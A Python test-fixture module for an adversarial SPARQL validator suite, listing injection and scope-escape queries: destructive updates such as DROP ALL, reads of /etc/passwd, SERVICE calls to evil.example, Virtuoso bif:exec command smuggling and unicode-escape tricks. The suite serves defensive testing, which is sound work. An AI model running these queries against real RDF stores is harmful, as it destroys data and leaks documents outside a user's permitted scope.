"""Injection and scope-escape queries for the adversarial suite.

Every query runs with the scope ``["a"]`` against a store that also holds document ``b``,
a graph that belongs to no document, and triples in the default graph. Whatever the
query, the store must not change and no row may carry a ``SECRET`` value; every ``ASK``
here is true only if it sees data outside the scope.

The cases are written from the attacks of the issue 12 run (updates, federation,
dataset widening, Virtuoso's ``bif:``/``sql:`` functions, escapes the validator and the
engine read differently) and their obvious variants.
"""

from __future__ import annotations

__all__ = ["CASES", "DOC_A", "DOC_B", "NAME", "OTHER_GRAPH", "OUT_OF_SCOPE", "VALID_READS"]

NAME = "http://example.org/adv/name"
DOC_A = "urn:hybrid-rag:doc:a"
DOC_B = "urn:hybrid-rag:doc:b"
OTHER_GRAPH = "urn:adv:other"
#: Any of these in a result is an out-of-scope read (values, subjects and graph names).
OUT_OF_SCOPE = ("SECRET", DOC_B, OTHER_GRAPH, "urn:hybrid-rag:adv:b")

_N = f"<{NAME}>"
_SEE_B = f'?s {_N} "SECRET-b"'
_ANY_SECRET = f"?s {_N} ?n FILTER(STRSTARTS(?n, 'SECRET'))"

_UPDATES = [
    f"INSERT DATA {{ <urn:x> {_N} 'evil' }}",
    f"INSERT DATA {{ GRAPH <{DOC_A}> {{ <urn:x> {_N} 'evil' }} }}",
    f"DELETE DATA {{ GRAPH <{DOC_A}> {{ <urn:hybrid-rag:adv:a> {_N} 'mine' }} }}",
    "DELETE WHERE { ?s ?p ?o }",
    f"DELETE WHERE {{ GRAPH <{DOC_B}> {{ ?s ?p ?o }} }}",
    "DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    f"WITH <{DOC_A}> DELETE {{ ?s ?p ?o }} INSERT {{ ?s ?p 'x' }} WHERE {{ ?s ?p ?o }}",
    f"INSERT {{ GRAPH <{DOC_A}> {{ ?s ?p ?o }} }} WHERE {{ GRAPH <{DOC_B}> {{ ?s ?p ?o }} }}",
    f"DROP GRAPH <{DOC_B}>",
    f"DROP SILENT GRAPH <{DOC_B}>",
    "DROP ALL",
    "DROP NAMED",
    "DROP DEFAULT",
    "CLEAR ALL",
    f"CLEAR GRAPH <{DOC_A}>",
    "CLEAR SILENT DEFAULT",
    f"LOAD <http://example.org/x.ttl> INTO GRAPH <{DOC_A}>",
    "LOAD SILENT <file:///etc/passwd>",
    "CREATE GRAPH <urn:new>",
    "CREATE SILENT GRAPH <urn:new>",
    f"COPY <{DOC_B}> TO <{DOC_A}>",
    f"COPY SILENT GRAPH <{DOC_B}> TO GRAPH <{DOC_A}>",
    f"MOVE <{DOC_B}> TO <{DOC_A}>",
    f"MOVE DEFAULT TO <{DOC_A}>",
    f"ADD <{DOC_B}> TO <{DOC_A}>",
    f"ADD <{OTHER_GRAPH}> TO <{DOC_A}>",
    "SELECT * WHERE { ?s ?p ?o } ; DROP ALL",
    "ASK { ?s ?p ?o } ;\nCLEAR ALL",
    f"PREFIX ex: <http://ex.org/> INSERT {{ ?s ex:p 1 }} WHERE {{ ?s {_N} ?o }}",
    "insert data { <urn:x> <urn:p> 'lower case' }",
    "InSeRt DaTa { <urn:x> <urn:p> 'mixed case' }",
    "# a comment first\nDROP ALL",
    "BASE <urn:x> DROP ALL",
    f"INSERT DATA {{ GRAPH <{DOC_A}> {{ <urn:x> {_N} 'a' }} }} ; DROP GRAPH <{DOC_B}>",
    "DELETE { GRAPH ?g { ?s ?p ?o } } WHERE { GRAPH ?g { ?s ?p ?o } }",
    "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o }",
    f"CONSTRUCT WHERE {{ GRAPH <{DOC_B}> {{ ?s ?p ?o }} }}",
    "DESCRIBE ?s WHERE { ?s ?p ?o }",
    f"DESCRIBE <{DOC_B}>",
    "SPARQL DROP ALL",
]

_EXISTS_ORACLES = [  # Virtuoso 7.2 evaluates these EXISTS over every graph
    f"ASK {{ FILTER EXISTS {{ {_SEE_B} }} }}",
    f"ASK {{ FILTER NOT EXISTS {{ {_SEE_B} }} }}",
    f"SELECT ?x WHERE {{ BIND(1 AS ?x) FILTER EXISTS {{ {_SEE_B} }} }}",
    f"SELECT ?x WHERE {{ VALUES ?x {{ 1 }} FILTER EXISTS {{ {_SEE_B} }} }}",
    f"SELECT ?x WHERE {{ OPTIONAL {{ ?x ?p ?o }} FILTER EXISTS {{ {_SEE_B} }} }}",
    f"SELECT ?x WHERE {{ ?x ?p ?o {{ BIND(1 AS ?y) FILTER EXISTS {{ {_SEE_B} }} }} }}",
    f"SELECT ?x WHERE {{ {{ BIND(1 AS ?x) FILTER EXISTS {{ {_SEE_B} }} }} UNION {{ ?x ?p ?o }} }}",
    f"SELECT ?x WHERE {{ BIND(EXISTS {{ {_SEE_B} }} AS ?x) FILTER(?x) }}",
    f"SELECT ?x WHERE {{ {{ ?x ?p ?o }} FILTER EXISTS {{ {_SEE_B} }} }}",
    f"SELECT ?x WHERE {{ ?x ?p ?o }} ORDER BY (EXISTS {{ {_SEE_B} }})",
    f"SELECT (EXISTS {{ {_SEE_B} }} AS ?x) WHERE {{ ?s ?p ?o }}",
    f"SELECT ?s WHERE {{ ?s ?p ?o }} GROUP BY ?s HAVING (EXISTS {{ {_SEE_B} }})",
    f"SELECT ?x WHERE {{ GRAPH ?g {{ ?x ?p ?o }} FILTER EXISTS {{ {_SEE_B} }} }}",  # strict
]

_BENIGN = [  # look like attacks to a text filter, are harmless reads
    "SELECT * WHERE { ?s ?p ?o } VALUES ?x { 1 } # SERVICE <http://e.example/q>",
    "SELECT * WHERE { ?s ?p ?o } # DROP ALL \x00",
    f"SELECT ?x WHERE {{ ?x ?p ?o FILTER EXISTS {{ {_SEE_B} }} }}",
    f"SELECT ?x WHERE {{ ?x ?p ?o FILTER NOT EXISTS {{ {_SEE_B} }} FILTER(false) }}",
    f"SELECT ?x WHERE {{ ?x ?p ?o BIND(EXISTS {{ {_SEE_B} }} AS ?y) FILTER(?y) }}",
]

_SERVICE = [
    "SELECT * WHERE { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { SERVICE SILENT <http://evil.example/sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { ?s ?p ?o OPTIONAL { SERVICE <http://127.0.0.1:1/q> { ?s ?q ?r } } }",
    "SELECT * WHERE { BIND(<http://evil.example/sparql> AS ?e) SERVICE ?e { ?s ?p ?o } }",
    "ASK { FILTER EXISTS { SERVICE <http://evil.example/sparql> { ?s ?p ?o } } }",
    "SELECT * WHERE { { SELECT * WHERE { SERVICE <http://e.example/q> { ?s ?p ?o } } } }",
    "SELECT * WHERE { ?s ?p ?o MINUS { SERVICE <http://e.example/q> { ?s ?p ?o } } }",
]

_SCOPE_NAMED = [  # name a graph outside the scope: the validator rejects them
    f"SELECT ?n FROM <{DOC_B}> WHERE {{ ?s {_N} ?n }}",
    f"SELECT ?n FROM NAMED <{DOC_B}> WHERE {{ GRAPH ?g {{ ?s {_N} ?n }} }}",
    f"SELECT ?n WHERE {{ GRAPH <{DOC_B}> {{ ?s {_N} ?n }} }}",
    f"SELECT ?n WHERE {{ GRAPH <{OTHER_GRAPH}> {{ ?s {_N} ?n }} }}",
    f"SELECT ?n FROM <{OTHER_GRAPH}> WHERE {{ ?s {_N} ?n }}",
    f"SELECT ?n FROM <{DOC_A}> FROM <{DOC_B}> WHERE {{ ?s {_N} ?n }}",
    f"SELECT ?n WHERE {{ {{ SELECT ?n FROM <{DOC_B}> WHERE {{ ?s {_N} ?n }} }} }}",
    f"SELECT ?n WHERE {{ {{ SELECT ?n WHERE {{ GRAPH <{DOC_B}> {{ ?s {_N} ?n }} }} }} }}",
    f"ASK {{ GRAPH <{DOC_B}> {{ ?s ?p ?o }} }}",
    f"ASK FROM <{DOC_B}> {{ ?s ?p ?o }}",
    f"ASK {{ FILTER EXISTS {{ GRAPH <{DOC_B}> {{ ?s ?p ?o }} }} }}",
    f"ASK {{ FILTER NOT EXISTS {{ GRAPH <{DOC_B}> {{ ?s ?p ?o }} }} FILTER(false) }}",
    f"SELECT ?n WHERE {{ ?s {_N} ?n MINUS {{ GRAPH <{DOC_B}> {{ ?s ?p ?o }} }} }}",
    f"SELECT ?n WHERE {{ OPTIONAL {{ GRAPH <{DOC_B}> {{ ?s {_N} ?n }} }} }}",
    f"SELECT ?n WHERE {{ ?x <urn:p>* ?y . GRAPH <{DOC_B}> {{ ?s {_N} ?n }} }}",
    f"SELECT ?n WHERE {{ GRAPH <{DOC_B.upper()}> {{ ?s {_N} ?n }} }}",
    f"SELECT ?n WHERE {{ GRAPH <{DOC_B}/> {{ ?s {_N} ?n }} }}",
    f"SELECT ?n WHERE {{ GRAPH <{DOC_B}%00> {{ ?s {_N} ?n }} }}",
    f"SELECT ?n FROM <urn:hybrid-rag:doc:b#x> WHERE {{ ?s {_N} ?n }}",
    f"PREFIX d: <urn:hybrid-rag:doc:> SELECT ?n WHERE {{ GRAPH d:b {{ ?s {_N} ?n }} }}",
    f"BASE <urn:hybrid-rag:doc:> SELECT ?n WHERE {{ GRAPH <b> {{ ?s {_N} ?n }} }}",
    f"PREFIX d: <urn:hybrid-rag:doc:> SELECT ?n FROM d:b WHERE {{ ?s {_N} ?n }}",
    f"SELECT ?n WHERE {{ GRAPH <urn:hybrid-rag:doc:\\u0062> {{ ?s {_N} ?n }} }}",
    f"SELECT ?n FROM <urn:hybrid-rag:doc:\\u0062> WHERE {{ ?s {_N} ?n }}",
]

_SCOPE_READS = [  # valid reads: only the store's dataset keeps them in scope
    f"SELECT ?n WHERE {{ GRAPH ?g {{ {_ANY_SECRET} }} }}",
    f"SELECT ?n WHERE {{ {_ANY_SECRET} }}",
    f"SELECT ?n WHERE {{ {{ {_ANY_SECRET} }} UNION {{ GRAPH ?g {{ {_ANY_SECRET} }} }} }}",
    f"SELECT ?n WHERE {{ VALUES ?g {{ <{DOC_B}> }} GRAPH ?g {{ ?s {_N} ?n }} }}",
    f"SELECT ?n WHERE {{ BIND(<{DOC_B}> AS ?g) GRAPH ?g {{ ?s {_N} ?n }} }}",
    f"SELECT ?n WHERE {{ BIND(IRI('{DOC_B}') AS ?g) GRAPH ?g {{ ?s {_N} ?n }} }}",
    f"SELECT ?n WHERE {{ GRAPH ?g {{ ?s {_N} ?n }} FILTER(?g = <{DOC_B}>) }}",
    f"SELECT ?n WHERE {{ GRAPH ?g {{ ?s {_N} ?n }} FILTER(STR(?g) != '{DOC_A}') }}",
    f"ASK {{ {_SEE_B} }}",
    f"ASK {{ GRAPH ?g {{ {_SEE_B} }} }}",
    f'ASK {{ ?s {_N} "SECRET-default" }}',
    f'ASK {{ ?s {_N} "SECRET-other" }}',
    f'ASK {{ GRAPH ?g {{ ?s {_N} "SECRET-other" }} }}',
    f"SELECT ?g WHERE {{ GRAPH ?g {{ }} FILTER(?g = <{DOC_B}>) }}",
    "SELECT DISTINCT ?g WHERE { GRAPH ?g { ?s ?p ?o } }",
    f"SELECT ?n WHERE {{ ?s {_N} ?n }} VALUES ?g {{ <{DOC_B}> }}",
    f"SELECT (SAMPLE(?n) AS ?x) WHERE {{ GRAPH ?g {{ ?s {_N} ?n }} }} GROUP BY ?g",
    f"SELECT ?n WHERE {{ GRAPH ?g {{ ?s {_N} ?n }} }} ORDER BY DESC(?n) LIMIT 1",
    f"SELECT (COUNT(*) AS ?c) WHERE {{ GRAPH ?g {{ {_ANY_SECRET} }} }}",
]

_FUNCTIONS = [
    'ASK { FILTER(bif:exec("SPARQL DROP SILENT GRAPH <urn:hybrid-rag:doc:b>") = 0) }',
    'PREFIX bif: <bif:> ASK { FILTER(bif:exec("SPARQL CLEAR GRAPH <urn:hybrid-rag:doc:b>")=0) }',
    'ASK { FILTER(<bif:exec>("SPARQL DROP SILENT GRAPH <urn:hybrid-rag:doc:b>") = 0) }',
    "PREFIX bif: <bif:> ASK { FILTER EXISTS { FILTER(bif:exec('SPARQL CLEAR ALL') = 0) } }",
    "PREFIX bif: <bif:> ASK { FILTER NOT EXISTS { FILTER(bif:exec('SPARQL CLEAR ALL')=0) } }",
    "PREFIX bif: <bif:> SELECT (bif:exec('SPARQL CLEAR ALL') AS ?x) WHERE { }",
    "PREFIX bif: <bif:> SELECT ?s WHERE { ?s ?p ?o BIND(bif:exec('SPARQL CLEAR ALL') AS ?x) }",
    "PREFIX bif: <bif:> SELECT ?s WHERE { ?s ?p ?o } ORDER BY bif:exec('SPARQL CLEAR ALL')",
    "PREFIX bif: <bif:> SELECT ?s WHERE { ?s ?p ?o } GROUP BY ?s HAVING(bif:exec('x') = 0)",
    "PREFIX bif: <bif:> SELECT ?s WHERE { ?s ?p ?o FILTER(bif:sprintf('%s', ?o) != '') }",
    "PREFIX bif: <bif:> SELECT ?s WHERE { ?s bif:contains 'SECRET' }",
    "PREFIX bif: <bif:> SELECT ?s WHERE { ?s ?p ?o FILTER(bif:file_to_string('/etc/passwd')) }",
    (
        'PREFIX bif: <bif:> ASK { FILTER(bif:exec("SPARQL COPY <urn:hybrid-rag:doc:b>'
        ' TO <urn:hybrid-rag:doc:a>") = 0) }'
    ),
    (
        'PREFIX bif: <bif:> ASK { FILTER(bif:exec("SPARQL INSERT DATA { GRAPH <urn:new>'
        ' { <urn:x> <urn:p> 1 } }") = 0) }'
    ),
    "PREFIX sql: <sql:> SELECT ?s WHERE { ?s ?p ?o FILTER(sql:RDF_GRAPH_GROUP_CREATE(?o)) }",
    "PREFIX sql: <sql:> ASK { FILTER(sql:DB.DBA.SPARQL_INSERT_DICT_CONTENT(1, 2) = 0) }",
    "ASK { FILTER(<sql:exec>('x') = 0) }",
    "BASE <bif:> ASK { FILTER(<exec>('SPARQL CLEAR ALL') = 0) }",
    "BASE <sql:> ASK { FILTER(<exec>('x') = 0) }",
    "PREFIX b: <BIF:> ASK { FILTER(b:exec('SPARQL CLEAR ALL') = 0) }",
    "ASK { FILTER(<http://www.openlinksw.com/schemas/bif#exec>('x') = 0) }",
    "PREFIX f: <http://evil.example/fn#> SELECT ?s WHERE { ?s ?p ?o FILTER(f:run(?o)) }",
    "SELECT ?s WHERE { ?s ?p ?o FILTER(<java:java.lang.Runtime.exec>('x')) }",
    "SELECT ?s WHERE { ?s ?p ?o FILTER(<urn:fn>(?o)) }",
    "SELECT ?s WHERE { ?s ?p ?o FILTER(<http://jena.apache.org/ARQ/function#sha1sum>(?o)) }",
    "PREFIX bif: <bif:> SELECT ?s WHERE { { SELECT ?s WHERE { ?s ?p ?o FILTER(bif:exec('x')) } } }",
    "PREFIX bif: <bif:> SELECT ?s WHERE { ?s ?p ?o MINUS { ?s ?p ?o FILTER(bif:exec('x')) } }",
    "PREFIX bif: <bif:> SELECT ?s WHERE { OPTIONAL { ?s ?p ?o FILTER(bif:exec('x')) } }",
    "PREFIX bif: <bif:> SELECT ?s WHERE { ?s ?p ?o } VALUES ?v { bif:exec }",
    "PREFIX bif: <bif:> SELECT * WHERE { ?s ?p ?o FILTER(?o = bif:x) }",
]

_ESCAPES = [
    "SELECT ?s WHERE { ?s ?p ?o } \\u004cIMIT 1",
    "SELECT ?s WHERE { ?s ?p ?o } # \\u000A ; DROP ALL",
    "SELECT ?s WHERE { ?s ?p ?o } # \\u000A FILTER(true)",
    f'SELECT ?n WHERE {{ ?s {_N} ?n FILTER(?n = "\\u0022) || true || (\\u0022") }}',
    f"SELECT ?n WHERE {{ ?s {_N} '\\u005c' }}",
    f"SELECT ?n WHERE {{ ?s {_N} ?n FILTER(?n != '\\u0027) }} ; DROP ALL #') }}",
    f"SELECT ?n WHERE {{ GRAPH <urn:x\\u003e {{ ?s {_N} ?n }} }}",
    f"\\u0053ELECT ?n WHERE {{ ?s {_N} ?n }}",
    f"SELECT ?n \\u0046ROM <{DOC_B}> WHERE {{ ?s {_N} ?n }}",
    f"SELECT ?n WHERE {{ \\u0047RAPH <{DOC_B}> {{ ?s {_N} ?n }} }}",
    "\\u0044ROP ALL",
    "SELECT ?s WHERE { ?s ?p ?o \\u007d",
    f"SELECT ?n WHERE {{ ?s {_N} ?n }} \\U0000004cIMIT 1",
    f'SELECT ?n WHERE {{ ?s {_N} "a\\u000Ab" }}',
    f'SELECT ?n WHERE {{ ?s {_N} ?n FILTER(?n = "\\u0000") }}',
]

_MALFORMED = [
    "",
    "   ",
    "SELECT",
    "SELECT * WHERE {",
    "SELECT * WHERE { ?s ?p ?o } }",
    "SELECT * WHERE { ?s ?p ?o } LIMIT -1",
    "ASK",
    "{ ?s ?p ?o }",
    "SELECT * WHERE { ?s ?p }",
    "SELECT * WHERE { GRAPH { ?s ?p ?o } }",
    "SELECT ?x WHERE { ?s ?p ?o } GROUP BY",
    "PREFIX : SELECT * WHERE { ?s ?p ?o }",
    "SELECT * WHERE { ?s ?p ?o FILTER( }",
    "DEFINE input:default-graph-uri <urn:hybrid-rag:doc:b> SELECT * WHERE { ?s ?p ?o }",
    "DEFINE sql:select-option 'order' SELECT * WHERE { ?s ?p ?o }",
    "SELECT * WHERE { ?s ?p ?o " + "{ " * 50 + "} " * 50 + "}",
    "x" * 100_001,
]

#: Queries the validator may accept; every other case must be rejected by it.
VALID_READS: list[str] = [*_SCOPE_READS, *_BENIGN]
CASES: list[str] = [
    *_UPDATES,
    *_SERVICE,
    *_SCOPE_NAMED,
    *_FUNCTIONS,
    *_ESCAPES,
    *_EXISTS_ORACLES,
    *_MALFORMED,
    *VALID_READS,
]
